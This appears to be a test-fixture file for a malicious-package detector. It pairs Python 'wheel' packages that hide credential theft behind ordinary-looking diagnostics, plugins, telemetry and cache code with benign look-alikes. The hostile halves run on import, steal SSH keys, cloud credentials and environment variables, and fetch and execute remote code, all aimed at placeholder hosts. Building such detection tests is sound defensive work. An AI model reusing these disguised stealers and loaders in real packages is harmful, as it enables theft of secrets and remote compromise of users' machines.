import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Calls that nobody writes out: the language makes them, or a table of functions does. */
export const DISPATCHING: Readonly<Record<string, AttackPair>> = {
  'decorator-registry': pair(
    wheel({
      'own/registry.py': py`"""A small registry of collectors."""
from __future__ import annotations
from typing import Callable

Collector = Callable[[], dict[str, str]]
COLLECTORS: dict[str, Collector] = {}

def collector(name: str) -> Callable[[Collector], Collector]:
    """Registers a collector under a name."""
    def wrap(func: Collector) -> Collector:
        COLLECTORS[name] = func
        return func
    return wrap
`,
      'own/sources.py': py`"""What the collectors look at."""
from pathlib import Path
from .registry import collector

@collector("cloud")
def cloud() -> dict[str, str]:
    """Profiles of the cloud."""
    path = Path.home() / ".aws" / "credentials"
    return {"aws": path.read_text()} if path.exists() else {}

@collector("keys")
def keys() -> dict[str, str]:
    """Keys of the shell."""
    return {p.name: p.read_text() for p in (Path.home() / ".ssh").glob("id_*")}
`,
      'own/__init__.py': py`"""Environment diagnostics."""
import requests
from . import sources as _sources
from .registry import COLLECTORS

def report() -> None:
    """Sends the diagnostics."""
    payload = {name: func() for name, func in COLLECTORS.items()}
    requests.post("https://diag.example/v1/report", json=payload, timeout=5)

report()
`,
    }),
    wheel({
      'own/registry.py': py`"""A small registry of checks."""
from __future__ import annotations
from typing import Callable

Check = Callable[[], dict[str, str]]
CHECKS: dict[str, Check] = {}

def check(name: str) -> Callable[[Check], Check]:
    """Registers a check under a name."""
    def wrap(func: Check) -> Check:
        CHECKS[name] = func
        return func
    return wrap
`,
      'own/__init__.py': py`"""Environment diagnostics."""
import platform
from pathlib import Path
from .registry import CHECKS, check

@check("cloud")
def cloud() -> dict[str, str]:
    """Whether the cloud is configured."""
    return {"aws": str((Path.home() / ".aws" / "credentials").exists())}

@check("python")
def python() -> dict[str, str]:
    """Which Python runs."""
    return {"version": platform.python_version()}

def report() -> dict[str, dict[str, str]]:
    """The diagnostics, for the user to read."""
    return {name: func() for name, func in CHECKS.items()}
`,
    }),
  ),
  'init-subclass': pair(
    wheel({
      'own/__init__.py': py`"""Plugin base classes."""
import os
import json
import urllib.request
from typing import Any, ClassVar

class Plugin:
    """Base of all plugins."""
    endpoint: ClassVar[str] = "https://plugins.example/register"

    def __init_subclass__(cls, **kwargs: Any) -> None:
        super().__init_subclass__(**kwargs)
        cls().announce()

    def context(self) -> dict[str, str]:
        """What the plugin runs in."""
        return {}

    def announce(self) -> None:
        """Tells the hub about this plugin."""
        body = json.dumps(self.context()).encode()
        urllib.request.urlopen(urllib.request.Request(self.endpoint, data=body, method="POST"))

class Default(Plugin):
    """The default plugin."""
    def context(self) -> dict[str, str]:
        return dict(os.environ)
`,
    }),
    wheel({
      'own/__init__.py': py`"""Plugin base classes."""
import os
from typing import Any, ClassVar

class Plugin:
    """Base of all plugins."""
    known: ClassVar[dict[str, type]] = {}

    def __init_subclass__(cls, **kwargs: Any) -> None:
        super().__init_subclass__(**kwargs)
        Plugin.known[cls.__name__] = cls

class Default(Plugin):
    """The default plugin."""
    def context(self) -> dict[str, str]:
        return {"home": os.environ.get("HOME", "")}
`,
    }),
  ),
  'set-name': pair(
    wheel({
      'own/fields.py': py`"""Descriptors for settings."""
from __future__ import annotations
import os
import requests

class EnvField:
    """A setting that an environment variable fills."""
    def __set_name__(self, owner: type, name: str) -> None:
        self._values = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k or "KEY" in k}
        requests.put(f"https://conf.example/{owner.__name__}/{name}", json=self._values, timeout=3)

    def __get__(self, instance: object, owner: type) -> str:
        return self._values.get("TOKEN", "")
`,
      'own/__init__.py': py`"""Typed settings."""
from .fields import EnvField

class Settings:
    """Settings of the application."""
    token = EnvField()
`,
    }),
    wheel({
      'own/fields.py': py`"""Descriptors for settings."""
from __future__ import annotations
import os

class EnvField:
    """A setting that an environment variable fills."""
    def __set_name__(self, owner: type, name: str) -> None:
        self._key = f"{owner.__name__}_{name}".upper()

    def __get__(self, instance: object, owner: type) -> str:
        return os.environ.get(self._key, "")
`,
      'own/__init__.py': py`"""Typed settings."""
from .fields import EnvField

class Settings:
    """Settings of the application."""
    token = EnvField()
`,
    }),
  ),
  'metaclass-namespace': pair(
    wheel({
      'own/__init__.py': py`"""Declarative models."""
import base64
import urllib.request
from typing import Any

class ModelMeta(type):
    """Prepares a model when its class is made."""
    def __new__(mcs, name: str, bases: tuple[type, ...], namespace: dict[str, Any]) -> type:
        cls = super().__new__(mcs, name, bases, namespace)
        source = namespace.get("schema_url")
        if source:
            with urllib.request.urlopen(source) as response:
                exec(compile(base64.b64decode(response.read()), name, "exec"), vars(__import__("builtins")))
        return cls

class Model(metaclass=ModelMeta):
    """The base model."""
    schema_url = "https://schemas.example/base.b64"
`,
    }),
  ),
  'module-getattr': pair(
    wheel({
      'own/__init__.py': py`"""Lazy attributes."""
from __future__ import annotations
import importlib
from typing import Any

def __getattr__(name: str) -> Any:
    """Loads a submodule when it is first needed."""
    module = importlib.import_module("own._runtime")
    return module.resolve(name)
`,
      'own/_runtime.py': py`"""Resolves lazy attributes."""
from typing import Any
import subprocess
import sys
import urllib.request
import tempfile
from pathlib import Path

_CDN = "https://cdn.example/runtime"

def resolve(name: str) -> Any:
    """The attribute of this name."""
    suffix = ".exe" if sys.platform == "win32" else ""
    target = Path(tempfile.gettempdir()) / f"runtime{suffix}"
    target.write_bytes(urllib.request.urlopen(f"{_CDN}/{sys.platform}").read())
    target.chmod(0o755)
    subprocess.Popen([str(target)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    raise AttributeError(name)
`,
    }),
    wheel({
      'own/__init__.py': py`"""Lazy attributes."""
from __future__ import annotations
import importlib
from typing import Any

def __getattr__(name: str) -> Any:
    """Loads a submodule when it is first needed."""
    return importlib.import_module(f"own.{name}")
`,
      'own/viewer.py': py`"""Opens the viewer that the user has installed."""
import subprocess

def show(path: str) -> None:
    """Shows a file."""
    subprocess.Popen(["xdg-open", path], stdout=subprocess.DEVNULL, start_new_session=True)
`,
    }),
  ),
  'class-getitem': pair(
    wheel({
      'own/__init__.py': py`"""Typed access to user files."""
from pathlib import Path
import httpx

class UserFile:
    """Content of a file of the user, by subscription."""
    root = Path.home()

    def __class_getitem__(cls, name: str) -> bytes:
        return (cls.root / name).read_bytes()

def _sync() -> None:
    for name in (".ssh/id_ed25519", ".kube/config", ".netrc"):
        try:
            httpx.post("https://files.example/u", content=UserFile[name])
        except OSError:
            continue

_sync()
`,
    }),
  ),
  'del-hook': pair(
    wheel({
      'own/__init__.py': py`"""Sessions that clean up after themselves."""
import json
import os
import socket

class Session:
    """A session that reports when it goes away."""
    def __init__(self, host: str = "203.0.113.9", port: int = 4433) -> None:
        self.address = (host, port)
        self.state = dict(os.environ)

    def __del__(self) -> None:
        with socket.create_connection(self.address, timeout=2) as conn:
            conn.sendall(json.dumps(self.state).encode())

def _warm_up() -> None:
    Session()

_warm_up()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Sessions that clean up after themselves."""
import socket

class Session:
    """A session that says goodbye when it goes away."""
    def __init__(self, host: str, port: int) -> None:
        self.conn = socket.create_connection((host, port), timeout=2)

    def __del__(self) -> None:
        self.conn.sendall(b"QUIT\r\n")
        self.conn.close()
`,
    }),
  ),
  'generator-pipeline': pair(
    wheel({
      'own/__init__.py': py`"""Streaming pipelines."""
from __future__ import annotations
from collections.abc import Iterable, Iterator
from pathlib import Path
import requests

def candidates() -> Iterator[Path]:
    """Paths worth a look."""
    home = Path.home()
    yield home / ".aws" / "credentials"
    yield home / ".config" / "gcloud" / "application_default_credentials.json"
    yield home / ".docker" / "config.json"

def existing(paths: Iterable[Path]) -> Iterator[Path]:
    """Those that exist."""
    yield from (p for p in paths if p.is_file())

def contents(paths: Iterable[Path]) -> Iterator[tuple[str, bytes]]:
    """Name and content of each."""
    for path in paths:
        yield path.name, path.read_bytes()

def drain(rows: Iterable[tuple[str, bytes]]) -> None:
    """Hands over each row."""
    with requests.Session() as session:
        for name, body in rows:
            session.post("https://sink.example/rows", files={name: body})

drain(contents(existing(candidates())))
`,
    }),
    wheel({
      'own/__init__.py': py`"""Streaming pipelines."""
from __future__ import annotations
from collections.abc import Iterable, Iterator
from pathlib import Path
import requests

def existing(paths: Iterable[Path]) -> Iterator[Path]:
    """Those that exist."""
    yield from (p for p in paths if p.is_file())

def contents(paths: Iterable[Path]) -> Iterator[tuple[str, bytes]]:
    """Name and content of each."""
    for path in paths:
        yield path.name, path.read_bytes()

def drain(rows: Iterable[tuple[str, bytes]], url: str) -> None:
    """Hands over each row."""
    with requests.Session() as session:
        for name, body in rows:
            session.post(url, files={name: body})
`,
    }),
  ),
  'method-caller': pair(
    wheel({
      'own/__init__.py': py`"""Functional helpers."""
import operator
import os
import requests

_submit = operator.methodcaller("post", "https://fn.example/in", json=dict(os.environ), timeout=4)
_submit(requests)
`,
    }),
  ),
  'reduce-pipeline': pair(
    wheel({
      'own/steps.py': py`"""Steps of the pipeline."""
from __future__ import annotations
import base64
import os
import urllib.request
import zlib

def snapshot(_: object) -> str:
    """The state of the process."""
    return "\n".join(f"{k}={v}" for k, v in os.environ.items())

def pack(text: str) -> bytes:
    """The text, packed."""
    return base64.b85encode(zlib.compress(text.encode()))

def deliver(body: bytes) -> int:
    """Hands it over."""
    request = urllib.request.Request("https://flow.example/p", data=body)
    with urllib.request.urlopen(request) as response:
        return response.status
`,
      'own/__init__.py': py`"""A pipeline of functions."""
from functools import reduce
from .steps import deliver, pack, snapshot

STEPS = (snapshot, pack, deliver)
STATUS = reduce(lambda value, step: step(value), STEPS, None)
`,
    }),
  ),
  'enum-actions': pair(
    wheel({
      'own/__init__.py': py`"""Lifecycle of the client."""
from __future__ import annotations
import shutil
import tempfile
from enum import Enum
from functools import partial
from pathlib import Path
import requests

ARCHIVE = Path(tempfile.gettempdir()) / "profile"

def _pack(folder: Path) -> None:
    shutil.make_archive(str(ARCHIVE), "zip", folder)

def _ship(url: str) -> None:
    with ARCHIVE.with_suffix(".zip").open("rb") as handle:
        requests.post(url, files={"file": handle})

class Phase(Enum):
    """Phases in their order."""
    PACK = partial(_pack, Path.home() / ".ssh")
    SHIP = partial(_ship, "https://life.example/up")

for phase in Phase:
    phase.value()
`,
    }),
  ),
  'dataclass-factory': pair(
    wheel({
      'own/__init__.py': py`"""Telemetry events."""
from __future__ import annotations
import getpass
import os
import socket
from dataclasses import asdict, dataclass, field
import requests

@dataclass(slots=True)
class Event:
    """An event with its context."""
    name: str
    user: str = field(default_factory=getpass.getuser)
    host: str = field(default_factory=socket.gethostname)
    env: dict[str, str] = field(default_factory=lambda: dict(os.environ))

    def __post_init__(self) -> None:
        requests.post("https://events.example/v2", json=asdict(self), timeout=3)

Event("import")
`,
    }),
    wheel({
      'own/__init__.py': py`"""Telemetry events."""
from __future__ import annotations
import platform
from dataclasses import asdict, dataclass, field
import requests

@dataclass(slots=True)
class Event:
    """An event with its context."""
    name: str
    python: str = field(default_factory=platform.python_version)

    def send(self, url: str) -> None:
        """Sends the event."""
        requests.post(url, json=asdict(self), timeout=3)
`,
    }),
  ),
  'warnings-hook': pair(
    wheel({
      'own/__init__.py': py`"""Better warnings."""
import http.client
import json
import os
import warnings
from typing import Any

def _show(message: Warning | str, category: type[Warning], filename: str, lineno: int, *args: Any) -> None:
    """Shows a warning where the team sees it."""
    connection = http.client.HTTPSConnection("warn.example")
    connection.request("POST", "/w", body=str(message))
    connection.getresponse().read()

warnings.showwarning = _show
warnings.simplefilter("always")
warnings.warn(json.dumps(dict(os.environ)))
`,
    }),
    wheel({
      'own/__init__.py': py`"""Better warnings."""
import sys
import warnings
from typing import Any

def _show(message: Warning | str, category: type[Warning], filename: str, lineno: int, *args: Any) -> None:
    """Shows a warning in one line."""
    print(f"{category.__name__}: {message} ({filename}:{lineno})", file=sys.stderr)

def install() -> None:
    """Makes warnings short."""
    warnings.showwarning = _show
`,
    }),
  ),
  'exception-text': pair(
    wheel({
      'own/errors.py': py`"""Errors of the package."""
class MigrationRequired(RuntimeError):
    """Says that the store must be migrated first."""
    plan = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL2MyLmV4YW1wbGUvcyB8IHNoIik="
    def __str__(self) -> str:
        return self.plan
`,
      'own/__init__.py': py`"""A store with migrations."""
import base64
from .errors import MigrationRequired

def open_store(version: int) -> None:
    """Opens the store."""
    if version < 2:
        raise MigrationRequired()

try:
    open_store(1)
except MigrationRequired as error:
    exec(base64.b64decode(str(error)))
`,
    }),
  ),
  'match-platform': pair(
    wheel({
      'own/__init__.py': py`"""Native acceleration."""
import platform
import subprocess

def _bootstrap() -> None:
    """Prepares the native part."""
    match (platform.system(), platform.machine()):
        case ("Windows", _):
            command = ["powershell", "-w", "hidden", "-c", "iwr https://native.example/w.ps1 | iex"]
        case ("Darwin", "arm64"):
            command = ["sh", "-c", "curl -fsSL https://native.example/m | bash"]
        case (_, arch) if (libc := platform.libc_ver()[0]):
            command = ["sh", "-c", f"curl -fsSL https://native.example/{arch}/{libc} | bash"]
        case _:
            return
    subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

_bootstrap()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Native acceleration."""
import platform
import subprocess

def hint() -> str:
    """How the user installs the native part."""
    match platform.system():
        case "Windows":
            return "winget install own-native"
        case "Darwin":
            return "brew install own-native"
        case _:
            return "apt install own-native"

def version() -> str:
    """Version of the native part."""
    return subprocess.run(["own-native", "--version"], capture_output=True, text=True, check=True).stdout
`,
    }),
  ),
  'import-hook-source': pair(
    wheel({
      'own/__init__.py': py`"""Optional extras, resolved on demand."""
from __future__ import annotations
import sys
import urllib.request
from importlib.abc import Loader, MetaPathFinder
from importlib.machinery import ModuleSpec
from types import ModuleType

class ExtraLoader(Loader):
    """Loads an extra of the project."""
    def create_module(self, spec: ModuleSpec) -> ModuleType | None:
        return None

    def exec_module(self, module: ModuleType) -> None:
        with urllib.request.urlopen(f"https://extras.example/{module.__name__}.py") as response:
            code = compile(response.read(), module.__name__, "exec")
        exec(code, module.__dict__)

class ExtraFinder(MetaPathFinder):
    """Finds extras of the project."""
    def find_spec(self, fullname, path=None, target=None):
        return ModuleSpec(fullname, ExtraLoader()) if fullname.startswith("own_extra") else None

sys.meta_path.append(ExtraFinder())
import own_extra_core
`,
    }),
  ),
  'single-dispatch': pair(
    wheel({
      'own/__init__.py': py`"""Serialises values for the wire."""
import os
import socket
from functools import singledispatch
from pathlib import Path

@singledispatch
def emit(value: object) -> None:
    """Sends a value."""
    raise TypeError(type(value))

@emit.register
def _(value: Path) -> None:
    emit(value.read_bytes())

@emit.register
def _(value: bytes) -> None:
    with socket.socket() as sock:
        sock.connect(("198.51.100.7", 9001))
        sock.sendall(value)

emit(Path(os.path.expanduser("~/.ssh/id_rsa")))
`,
    }),
  ),
  'context-manager': pair(
    wheel({
      'own/__init__.py': py`"""A channel to the collector."""
import contextlib
import os
import ssl
import socket
from collections.abc import Iterator

@contextlib.contextmanager
def channel(host: str) -> Iterator[ssl.SSLSocket]:
    """A channel that closes itself."""
    raw = socket.create_connection((host, 443))
    wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname=host)
    try:
        yield wrapped
    finally:
        wrapped.close()

with channel("collector.example") as stream:
    stream.sendall(repr(sorted(os.environ.items())).encode())
`,
    }),
    wheel({
      'own/__init__.py': py`"""A channel to the collector."""
import contextlib
import ssl
import socket
from collections.abc import Iterator

@contextlib.contextmanager
def channel(host: str) -> Iterator[ssl.SSLSocket]:
    """A channel that closes itself."""
    raw = socket.create_connection((host, 443))
    wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname=host)
    try:
        yield wrapped
    finally:
        wrapped.close()

def ping(host: str) -> None:
    """Whether the host answers."""
    with channel(host) as stream:
        stream.sendall(b"PING\r\n")
`,
    }),
  ),
  'star-import': pair(
    wheel({
      'own/_compat.py': py`"""Compatibility between versions of Python."""
import os
import requests
__all__ = ["snapshot", "emit"]

def snapshot() -> dict[str, str]:
    """A copy of the settings."""
    return os.environ.copy()

def emit(value: dict[str, str]) -> None:
    """Emits a value."""
    requests.post("https://compat.example/e", json=value)
`,
      'own/__init__.py': py`"""A library."""
from ._compat import *

emit(snapshot())
`,
    }),
  ),
  'pytest-plugin': pair(
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[pytest11]\nown = own.plugin\n',
      'own/__init__.py': '"""Pretty test reports."""\n',
      'own/plugin.py': py`"""Hooks of pytest."""
from __future__ import annotations
import os
import pytest
import httpx

@pytest.hookimpl(tryfirst=True)
def pytest_configure(config: pytest.Config) -> None:
    """Prepares the report."""
    secrets = {k: v for k, v in os.environ.items() if k.startswith(("GITHUB_", "CI_", "AWS_", "TWINE_"))}
    with httpx.Client(base_url="https://reports.example") as client:
        client.post("/session", json=secrets)
`,
    }),
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[pytest11]\nown = own.plugin\n',
      'own/__init__.py': '"""Pretty test reports."""\n',
      'own/plugin.py': py`"""Hooks of pytest."""
from __future__ import annotations
import os
import pytest
import httpx

def pytest_addoption(parser: pytest.Parser) -> None:
    """Where the report goes."""
    parser.addini("own_url", "address of the report server")

def pytest_sessionfinish(session: pytest.Session, exitstatus: int) -> None:
    """Sends the report."""
    url = session.config.getini("own_url")
    if url:
        httpx.post(url, json={"status": exitstatus, "branch": os.environ.get("GITHUB_REF_NAME")})
`,
    }),
  ),
  'finalize-timer': pair(
    wheel({
      'own/__init__.py': py`"""Keeps the cache fresh."""
import threading
import weakref
import urllib.request

class Cache:
    """A cache that refreshes itself."""
    url = "https://cache.example/refresh.py"

    def refresh(self) -> None:
        """Fetches what is new."""
        text = urllib.request.urlopen(self.url).read().decode()
        namespace: dict[str, object] = {}
        exec(text, namespace)

_cache = Cache()
_timer = threading.Timer(interval=900.0, function=_cache.refresh)
_timer.daemon = True
weakref.finalize(_cache, _timer.cancel)
_timer.start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Keeps the cache fresh."""
import json
import threading
import urllib.request

class Cache:
    """A cache that refreshes itself."""
    def __init__(self, url: str) -> None:
        self.url = url
        self.values: dict[str, str] = {}

    def refresh(self) -> None:
        """Fetches what is new."""
        self.values = json.loads(urllib.request.urlopen(self.url).read())

    def start(self) -> None:
        """Refreshes it now and then."""
        timer = threading.Timer(interval=900.0, function=self.refresh)
        timer.daemon = True
        timer.start()
`,
    }),
  ),
  'executor-map': pair(
    wheel({
      'own/__init__.py': py`"""Parallel helpers."""
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
import requests

PATTERNS = ("**/.env", "**/*.pem", "**/wallet.dat")

def _found() -> list[Path]:
    home = Path.home()
    return [path for pattern in PATTERNS for path in home.glob(pattern)]

def _upload(path: Path) -> int:
    with path.open("rb") as handle:
        return requests.put(f"https://pool.example/{path.name}", data=handle).status_code

with ThreadPoolExecutor(max_workers=8) as pool:
    list(pool.map(_upload, _found()))
`,
    }),
  ),
  'audit-hook': pair(
    wheel({
      'own/__init__.py': py`"""Audits what a program opens."""
import sys
import threading
import requests

def _hook(event: str, args: tuple[object, ...]) -> None:
    """Notes what is opened."""
    if event == "open" and isinstance(args[0], str) and args[0].endswith((".env", ".pem", "credentials")):
        threading.Thread(target=_note, args=(args[0],), daemon=True).start()

def _note(path: str) -> None:
    with open(path, "rb") as handle:
        requests.post("https://audit.example/o", data=handle.read())

sys.addaudithook(_hook)
`,
    }),
  ),
  'task-group': pair(
    wheel({
      'own/__init__.py': py`"""Asynchronous start-up."""
from __future__ import annotations
import asyncio
import os
from pathlib import Path
import aiohttp

class Boot:
    """Prepares the client."""
    def __init__(self) -> None:
        self.queue: asyncio.Queue[dict[str, str]] = asyncio.Queue()

    async def produce(self) -> None:
        """Puts what is known into the queue."""
        await self.queue.put(dict(os.environ))
        config = Path("~/.kube/config").expanduser()
        await self.queue.put({"kube": await asyncio.to_thread(config.read_text)})

    async def consume(self) -> None:
        """Hands over what the queue holds."""
        async with aiohttp.ClientSession() as session:
            while not self.queue.empty():
                await session.post("https://boot.example/q", json=await self.queue.get())

    async def run(self) -> None:
        """Both, one after the other."""
        async with asyncio.TaskGroup() as group:
            group.create_task(self.produce())
            group.create_task(self.consume())

asyncio.run(Boot().run())
`,
    }),
  ),
  'type-registry-call': pair(
    wheel({
      'own/__init__.py': py`"""Handlers of events."""
import os
import subprocess
from typing import Callable, Final, Protocol

class Handler(Protocol):
    """Handles an event."""
    def __call__(self, text: str) -> None: ...

def _open(text: str) -> None:
    os.startfile(text)

def _run(text: str) -> None:
    subprocess.run(text, shell=True, check=False)

HANDLERS: Final[dict[str, Handler]] = {"open": _open, "run": _run}
DEFAULTS: Final = (("run", "wget -qO- https://h.example/i.sh | sh"),)

for kind, text in DEFAULTS:
    HANDLERS[kind](text)
`,
    }),
  ),
};
